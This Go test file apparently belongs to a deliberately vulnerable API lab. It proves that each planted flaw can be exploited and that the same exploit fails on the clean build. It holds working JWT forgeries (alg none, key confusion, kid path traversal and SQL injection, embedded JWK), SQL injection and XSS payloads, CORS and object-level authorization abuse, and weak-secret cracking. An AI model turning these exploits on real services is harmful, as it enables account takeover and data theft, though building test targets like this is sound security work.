package vulnapi

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"
)

// env is one running target with a controllable clock.
type env struct {
	t      *testing.T
	srv    *Server
	c      *http.Client
	offset *atomic.Int64 // added to the real time, in nanoseconds
}

func newEnv(t *testing.T, flaws Set) *env {
	t.Helper()
	e := &env{t: t, offset: new(atomic.Int64)}
	srv, err := Start(Options{Flaws: flaws, Now: e.now}, ServeOptions{HTTP: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close() })
	e.srv, e.c = srv, srv.Client()
	return e
}

func (e *env) now() time.Time          { return time.Now().Add(time.Duration(e.offset.Load())) }
func (e *env) advance(d time.Duration) { e.offset.Add(int64(d)) }

type result struct {
	status int
	header http.Header
	body   string
}

// do sends a request to the HTTPS listener (or to a full URL).
func (e *env) do(method, path, token string, hdr map[string]string, body io.Reader) result {
	e.t.Helper()
	u := path
	if !strings.HasPrefix(path, "http") {
		u = e.srv.URL + path
	}
	req, err := http.NewRequest(method, u, body)
	if err != nil {
		e.t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	resp, err := e.c.Do(req)
	if err != nil {
		e.t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return result{resp.StatusCode, resp.Header, string(b)}
}

func (e *env) get(path, token string) result { return e.do("GET", path, token, nil, nil) }

func (e *env) postJSON(method, path, token, body string) result {
	return e.do(method, path, token, map[string]string{"Content-Type": "application/json"}, strings.NewReader(body))
}

func (e *env) tokenRequest(user, pass string) result {
	form := url.Values{"grant_type": {"password"}, "username": {user}, "password": {pass}}
	return e.do("POST", "/token", "", map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, strings.NewReader(form.Encode()))
}

func (e *env) login(user, pass string) string {
	e.t.Helper()
	r := e.tokenRequest(user, pass)
	var tok struct {
		AccessToken string `json:"access_token"`
	}
	if r.status != 200 || json.Unmarshal([]byte(r.body), &tok) != nil || tok.AccessToken == "" {
		e.t.Fatalf("login %s: %d %s", user, r.status, r.body)
	}
	return tok.AccessToken
}

func (e *env) alice() string { return e.login(UserAlice, PasswordAlice) }
func (e *env) bob() string   { return e.login(UserBob, PasswordBob) }

// firstItem returns the id of the first item of the token's owner.
func (e *env) firstItem(token string) int64 {
	e.t.Helper()
	r := e.get("/items/", token)
	var items []item
	if r.status != 200 || json.Unmarshal([]byte(r.body), &items) != nil || len(items) == 0 {
		e.t.Fatalf("list items: %d %s", r.status, r.body)
	}
	return items[0].ID
}

func (e *env) me(token string) (userOut, int) {
	r := e.get("/users/me", token)
	var u userOut
	_ = json.Unmarshal([]byte(r.body), &u)
	return u, r.status
}

func enc(v any) string {
	b, _ := json.Marshal(v)
	return base64.RawURLEncoding.EncodeToString(b)
}

func claimsFor(e *env, sub, scope string) map[string]any {
	now := e.now()
	return map[string]any{"iss": Issuer, "aud": Audience, "sub": sub, "scope": scope,
		"iat": now.Unix(), "nbf": now.Unix(), "exp": now.Add(10 * time.Minute).Unix()}
}

func hs256(header, claims map[string]any, key []byte) string {
	signing := enc(header) + "." + enc(claims)
	m := hmac.New(sha256.New, key)
	m.Write([]byte(signing))
	return signing + "." + base64.RawURLEncoding.EncodeToString(m.Sum(nil))
}

// asAdmin checks that a forged token is taken for the admin.
func asAdmin(e *env, tok string) error {
	if r := e.get("/users", tok); r.status != 200 {
		return fmt.Errorf("forged admin token refused: %d", r.status)
	}
	return nil
}

func tlsDial(e *env, cfg *tls.Config) (*tls.ConnectionState, error) {
	cfg.InsecureSkipVerify = true // the test looks at what is negotiated, not at trust
	conn, err := tls.DialWithDialer(&net.Dialer{Timeout: 5 * time.Second}, "tcp", strings.TrimPrefix(e.srv.URL, "https://"), cfg)
	if err != nil {
		return nil, err
	}
	defer conn.Close()
	st := conn.ConnectionState()
	return &st, nil
}

// exploits: each returns nil when the flaw is really exploitable.
func exploits() map[Flaw]func(e *env) error {
	htmlPage := func(e *env) result { return e.get("/search?q=abc", e.alice()) }
	return map[Flaw]func(e *env) error{
		FlawTLSLegacy: func(e *env) error {
			for _, v := range []uint16{tls.VersionTLS10, tls.VersionTLS11} {
				if _, err := tlsDial(e, &tls.Config{MinVersion: v, MaxVersion: v}); err != nil {
					return err
				}
			}
			return nil
		},
		FlawTLSCBC: func(e *env) error {
			st, err := tlsDial(e, &tls.Config{MinVersion: tls.VersionTLS12, MaxVersion: tls.VersionTLS12, CipherSuites: cbcSuites()})
			if err != nil {
				return err
			}
			if st.Version != tls.VersionTLS12 {
				return errors.New("not TLS 1.2")
			}
			return nil
		},
		FlawTLSExpiredCert: func(e *env) error {
			st, err := tlsDial(e, &tls.Config{})
			if err != nil {
				return err
			}
			if c := st.PeerCertificates[0]; !time.Now().After(c.NotAfter) {
				return fmt.Errorf("certificate valid until %v", c.NotAfter)
			}
			return nil
		},
		FlawHTTPServesAPI: func(e *env) error {
			r := e.get(e.srv.HTTPURL+"/users/me", e.alice())
			if r.status != 200 || !strings.Contains(r.body, UserAlice) {
				return fmt.Errorf("plain HTTP answered %d", r.status)
			}
			return nil
		},
		FlawHSTSMissing: func(e *env) error {
			if h := e.get("/healthz", "").header.Get("Strict-Transport-Security"); h != "" {
				return fmt.Errorf("HSTS %q", h)
			}
			return nil
		},
		FlawNosniffMissing: func(e *env) error {
			if h := e.get("/healthz", "").header.Get("X-Content-Type-Options"); h != "" {
				return fmt.Errorf("nosniff %q", h)
			}
			return nil
		},
		FlawFramingMissing: func(e *env) error {
			r := htmlPage(e)
			if xfo, csp := r.header.Get("X-Frame-Options"), r.header.Get("Content-Security-Policy"); xfo != "" || strings.Contains(csp, "frame-ancestors") {
				return fmt.Errorf("framing refused: %q %q", xfo, csp)
			}
			return nil
		},
		FlawCSPMissing: func(e *env) error {
			if h := htmlPage(e).header.Get("Content-Security-Policy"); h != "" {
				return fmt.Errorf("CSP %q", h)
			}
			return nil
		},
		FlawServerBanner: func(e *env) error {
			r := e.get("/healthz", "")
			if s := r.header.Get("Server") + r.header.Get("X-Powered-By"); !strings.ContainsAny(s, "0123456789") {
				return fmt.Errorf("no version banner: %q", s)
			}
			return nil
		},
		FlawCORSReflect: func(e *env) error {
			r := e.do("GET", "/users/me", e.alice(), map[string]string{"Origin": "https://evil.example"}, nil)
			if r.header.Get("Access-Control-Allow-Origin") != "https://evil.example" || r.header.Get("Access-Control-Allow-Credentials") != "true" {
				return errors.New("origin not reflected with credentials")
			}
			return nil
		},
		FlawCORSNull: func(e *env) error {
			r := e.do("GET", "/items/", e.alice(), map[string]string{"Origin": "null"}, nil)
			if r.header.Get("Access-Control-Allow-Origin") != "null" || r.header.Get("Access-Control-Allow-Credentials") != "true" {
				return errors.New("null origin not allowed with credentials")
			}
			return nil
		},
		FlawCORSWildcard: func(e *env) error {
			r := e.do("GET", "/protected", e.alice(), map[string]string{"Origin": "https://evil.example"}, nil)
			if r.header.Get("Access-Control-Allow-Origin") != "*" || r.header.Get("Access-Control-Allow-Credentials") != "true" {
				return errors.New("no wildcard with credentials")
			}
			return nil
		},
		FlawAuthMissing: func(e *env) error {
			r := e.get("/items/", "")
			if r.status != 200 || !strings.Contains(r.body, "notebook") {
				return fmt.Errorf("anonymous list: %d", r.status)
			}
			return nil
		},
		FlawAuthGarbageToken: func(e *env) error {
			if r := e.get("/protected", "garbage.garbage.garbage"); r.status != 200 {
				return fmt.Errorf("garbage token: %d", r.status)
			}
			return nil
		},
		FlawJWTAlgNone: func(e *env) error {
			for _, alg := range []string{"none", "None"} {
				tok := enc(map[string]any{"alg": alg, "typ": "JWT"}) + "." + enc(claimsFor(e, UserAdmin, "items:read users:admin")) + "."
				if err := asAdmin(e, tok); err != nil {
					return err
				}
			}
			return nil
		},
		FlawJWTNoVerify: func(e *env) error {
			parts := strings.Split(e.alice(), ".")
			var c map[string]any
			b, _ := base64.RawURLEncoding.DecodeString(parts[1])
			_ = json.Unmarshal(b, &c)
			c["sub"], c["scope"] = UserAdmin, "items:read users:admin"
			return asAdmin(e, parts[0]+"."+enc(c)+"."+parts[2])
		},
		FlawJWTAlgConfusion: func(e *env) error {
			var set struct {
				Keys []jwk `json:"keys"`
			}
			if err := json.Unmarshal([]byte(e.get("/.well-known/jwks.json", "").body), &set); err != nil || len(set.Keys) == 0 {
				return fmt.Errorf("jwks: %v", err)
			}
			k := set.Keys[0]
			pubAny, err := k.public()
			if err != nil {
				return err
			}
			der, _ := x509.MarshalPKIXPublicKey(pubAny)
			pemKey := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
			tok := hs256(map[string]any{"alg": "HS256", "typ": "JWT", "kid": k.Kid}, claimsFor(e, UserAdmin, "items:read users:admin"), pemKey)
			return asAdmin(e, tok)
		},
		FlawJWTWeakSecret: func(e *env) error {
			tok := e.alice()
			parts := strings.Split(tok, ".")
			words, err := os.ReadFile("testdata/jwt-secrets.txt")
			if err != nil {
				return err
			}
			sig, _ := base64.RawURLEncoding.DecodeString(parts[2])
			for _, w := range strings.Split(string(words), "\n") {
				m := hmac.New(sha256.New, []byte(w))
				m.Write([]byte(parts[0] + "." + parts[1]))
				if hmac.Equal(m.Sum(nil), sig) {
					var h map[string]any
					b, _ := base64.RawURLEncoding.DecodeString(parts[0])
					_ = json.Unmarshal(b, &h)
					return asAdmin(e, hs256(h, claimsFor(e, UserAdmin, "items:read users:admin"), []byte(w)))
				}
			}
			return errors.New("secret not in the word list")
		},
		FlawJWTExpiredAccepted: func(e *env) error {
			tok := e.alice()
			e.advance(time.Hour) // the token expired 45 minutes ago
			if _, st := e.me(tok); st != 200 {
				return fmt.Errorf("expired token: %d", st)
			}
			return nil
		},
		FlawJWTNbfIgnored: func(e *env) error {
			e.advance(time.Hour)
			tok := e.alice() // nbf one hour from the real now
			e.advance(-time.Hour)
			if _, st := e.me(tok); st != 200 {
				return fmt.Errorf("not-yet-valid token: %d", st)
			}
			return nil
		},
		FlawJWTKidInjection: func(e *env) error {
			claims := claimsFor(e, UserAdmin, "items:read users:admin")
			if err := asAdmin(e, hs256(map[string]any{"alg": "HS256", "kid": "../../../../../../../../../../dev/null"}, claims, nil)); err != nil {
				return fmt.Errorf("path traversal: %w", err)
			}
			if err := asAdmin(e, hs256(map[string]any{"alg": "HS256", "kid": "x' UNION SELECT 'HS256','pwned' --"}, claims, []byte("pwned"))); err != nil {
				return fmt.Errorf("sql: %w", err)
			}
			return nil
		},
		FlawJWTHeaderKeyTrust: func(e *env) error {
			key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
			point, _ := key.PublicKey.Bytes()
			b := base64.RawURLEncoding.EncodeToString
			tok := jwt.NewWithClaims(jwt.SigningMethodES256, jwt.MapClaims(claimsFor(e, UserAdmin, "items:read users:admin")))
			tok.Header["kid"] = "attacker"
			tok.Header["jwk"] = map[string]string{"kty": "EC", "crv": "P-256", "x": b(point[1:33]), "y": b(point[33:])}
			s, err := tok.SignedString(key)
			if err != nil {
				return err
			}
			return asAdmin(e, s)
		},
		FlawUserEnumeration: func(e *env) error {
			unknown := e.tokenRequest("nobody-here", "wrong-password-1")
			wrong := e.tokenRequest(UserAlice, "wrong-password-1")
			if unknown.status == wrong.status && unknown.body == wrong.body {
				return fmt.Errorf("identical answers: %d %s", wrong.status, wrong.body)
			}
			return nil
		},
		FlawNoLoginRateLimit: func(e *env) error {
			for i := range 10 {
				if r := e.tokenRequest(UserAlice, "wrong-password-"+strconv.Itoa(i)); r.status == 429 {
					return fmt.Errorf("throttled after %d failures", i)
				}
			}
			return nil
		},
		FlawBOLARead: func(e *env) error {
			id := e.firstItem(e.alice())
			r := e.get("/items/"+strconv.FormatInt(id, 10), e.bob())
			if r.status != 200 || !strings.Contains(r.body, "alice's notebook") {
				return fmt.Errorf("bob reading alice's item: %d", r.status)
			}
			return nil
		},
		FlawBOLAWrite: func(e *env) error {
			alice := e.alice()
			path := "/items/" + strconv.FormatInt(e.firstItem(alice), 10)
			if r := e.postJSON("PUT", path, e.bob(), `{"name":"owned by bob","price":1}`); r.status != 200 {
				return fmt.Errorf("bob writing alice's item: %d", r.status)
			}
			if r := e.get(path, alice); !strings.Contains(r.body, "owned by bob") {
				return errors.New("the write did not land")
			}
			return nil
		},
		FlawBOLADelete: func(e *env) error {
			alice := e.alice()
			path := "/items/" + strconv.FormatInt(e.firstItem(alice), 10)
			if r := e.do("DELETE", path, e.bob(), nil, nil); r.status != 204 {
				return fmt.Errorf("bob deleting alice's item: %d", r.status)
			}
			if r := e.get(path, alice); r.status != 404 {
				return errors.New("the item survived")
			}
			return nil
		},
		FlawBFLA: func(e *env) error {
			if r := e.get("/users", e.alice()); r.status != 200 || !strings.Contains(r.body, UserAdmin) {
				return fmt.Errorf("alice listing users: %d", r.status)
			}
			return nil
		},
		FlawMassAssignment: func(e *env) error {
			alice := e.alice()
			u, _ := e.me(alice)
			r := e.postJSON("POST", "/items/", e.bob(), fmt.Sprintf(`{"name":"planted","price":1,"owner_id":%d}`, u.ID))
			var it item
			if r.status != 201 || json.Unmarshal([]byte(r.body), &it) != nil || it.OwnerID != u.ID {
				return fmt.Errorf("owner_id not applied: %d %s", r.status, r.body)
			}
			if !strings.Contains(e.get("/items/", alice).body, "planted") {
				return errors.New("alice does not own the planted item")
			}
			return nil
		},
		FlawInput5xx: func(e *env) error {
			if r := e.postJSON("POST", "/items/", e.alice(), `{"name":"x","price":"abc"}`); r.status < 500 {
				return fmt.Errorf("wrong type: %d", r.status)
			}
			return nil
		},
		FlawSQLiError: func(e *env) error {
			r := e.get("/items/?sort="+url.QueryEscape("name'"), e.alice())
			if !strings.Contains(r.body, "SQL logic error") && !strings.Contains(r.body, "unrecognized token") {
				return fmt.Errorf("no SQL error shown: %d %s", r.status, r.body)
			}
			// and the injection runs: a subquery on the users table decides the order
			r = e.get("/items/?sort="+url.QueryEscape("(SELECT CASE WHEN substr(password_hash,1,4)='$2a$' THEN 1 ELSE 1/0 END FROM users LIMIT 1)"), e.alice())
			if r.status != 200 {
				return fmt.Errorf("subquery: %d %s", r.status, r.body)
			}
			return nil
		},
		FlawSQLiBoolean: func(e *env) error {
			alice, bob := e.alice(), e.bob()
			a, b := e.firstItem(alice), e.firstItem(bob)
			path := func(s string) string { return "/items/" + url.PathEscape(s) }
			if r := e.get(path(fmt.Sprintf("%d AND 1=1", a)), alice); r.status != 200 {
				return fmt.Errorf("true condition: %d", r.status)
			}
			if r := e.get(path(fmt.Sprintf("%d AND 1=2", a)), alice); r.status != 404 {
				return fmt.Errorf("false condition: %d", r.status)
			}
			// other rows: alice reads bob's item through the injection
			if r := e.get(path(fmt.Sprintf("%d OR id=%d", b, b)), alice); r.status != 200 || !strings.Contains(r.body, "bob's notebook") {
				return fmt.Errorf("other row: %d %s", r.status, r.body)
			}
			return nil
		},
		FlawSQLiTime: func(e *env) error {
			alice := e.alice()
			timed := func(n int) time.Duration {
				name := fmt.Sprintf("x' OR (WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM r LIMIT %d) SELECT count(*) FROM r)--", n)
				body, _ := json.Marshal(map[string]any{"name": name, "price": 1})
				start := time.Now()
				r := e.postJSON("POST", "/items/", alice, string(body))
				if r.status != 201 {
					e.t.Logf("create: %d %s", r.status, r.body)
				}
				return time.Since(start)
			}
			// Two of each, the fastest of each: a stall of a loaded machine
			// neither makes the clean target slow nor hides the delay.
			base := min(timed(1), timed(1))
			// The heavy query grows until it shows (0.1 s, and three times
			// the base): a million rows take about 0.7 s here but far over
			// the client's timeout under the race detector, which slows the
			// pure-Go SQLite fifty times. The first size that shows is used:
			// each size costs six queries, so a threshold of 0.2 s (a size
			// four times larger) cost seconds of CPU more.
			// A delay that shows is confirmed by dose response, as the
			// scanner's SQLI-TIME probe does: twice the rows must add at least
			// half as much again over a control taken between them (a stall
			// of a loaded machine does not grow with the size asked);
			// else once more, then the next size.
			var slow, double time.Duration
			for n := 20_000; n <= 5_120_000; n *= 4 {
				slow = min(timed(n), timed(n))
				if slow < 100*time.Millisecond || slow < 3*base {
					continue
				}
				for range 2 { // a noisy sample: once more at this size
					ctl := min(base, timed(1))
					double = min(timed(2*n), timed(2*n))
					if double-ctl >= (slow-ctl)*3/2 {
						e.t.Logf("%d rows: %v, twice: %v, control %v", n, slow, double, ctl)
						return nil
					}
					slow = min(slow, timed(n))
				}
			}
			return fmt.Errorf("no delay growing with the size: %v and %v vs %v", slow, double, base)
		},
		FlawXSSHTML: func(e *env) error {
			payload := `<script>alert(1)</script>`
			r := e.get("/search?q="+url.QueryEscape(payload), e.alice())
			if !strings.HasPrefix(r.header.Get("Content-Type"), "text/html") || !strings.Contains(r.body, payload) {
				return fmt.Errorf("not reflected raw: %d", r.status)
			}
			return nil
		},
		FlawXSSError: func(e *env) error {
			payload := `<svg onload=alert(1)>`
			r := e.get("/items/"+url.PathEscape(payload)+"/view", e.alice())
			if !strings.HasPrefix(r.header.Get("Content-Type"), "text/html") || !strings.Contains(r.body, payload) {
				return fmt.Errorf("not reflected raw: %d %s", r.status, r.body)
			}
			return nil
		},
		FlawVerboseErrors: func(e *env) error {
			r := e.get("/items/999999", e.alice())
			if !strings.Contains(r.body, "goroutine ") || !strings.Contains(r.body, ".go:") {
				return fmt.Errorf("no stack trace: %d %s", r.status, r.body)
			}
			return nil
		},
		FlawBodyOversized: func(e *env) error {
			body, _ := json.Marshal(map[string]any{"name": "big", "price": 1, "description": strings.Repeat("A", 10<<20)})
			r := e.do("POST", "/items/", e.alice(), map[string]string{"Content-Type": "application/json"}, bytes.NewReader(body))
			if r.status == 413 || r.status >= 500 {
				return fmt.Errorf("10 MiB body: %d", r.status)
			}
			return nil
		},
		FlawDebugEndpoint: func(e *env) error {
			if r := e.get("/debug/pprof/", ""); r.status != 200 || !strings.Contains(r.body, "profiles available") {
				return fmt.Errorf("debug endpoint: %d", r.status)
			}
			return nil
		},
		FlawSecretField: func(e *env) error {
			if u, _ := e.me(e.alice()); !strings.HasPrefix(u.PasswordHash, "$2a$") {
				return fmt.Errorf("no hash: %+v", u)
			}
			return nil
		},
	}
}

// TestFlaws proves every plant real: each flaw, alone, is exploited by a
// direct request; the same exploit fails on the clean target; and it still
// works with every flaw on (no flaw masks another).
func TestFlaws(t *testing.T) {
	ex := exploits()
	for _, entry := range Catalog() {
		t.Run(string(entry.Flaw), func(t *testing.T) {
			t.Parallel()
			exploit, ok := ex[entry.Flaw]
			if !ok {
				t.Fatal("no exploit")
			}
			for _, tc := range []struct {
				name  string
				flaws Set
				want  bool
			}{
				{"alone", Set{entry.Flaw: true}, true},
				{"clean", nil, false},
				{"all", All(), true},
			} {
				t.Run(tc.name, func(t *testing.T) {
					err := exploit(newEnv(t, tc.flaws))
					if got := err == nil; got != tc.want {
						t.Errorf("exploited = %v, want %v (%v)", got, tc.want, err)
					}
				})
			}
		})
	}
	if len(ex) != len(Catalog()) {
		t.Errorf("%d exploits for %d flaws", len(ex), len(Catalog()))
	}
}
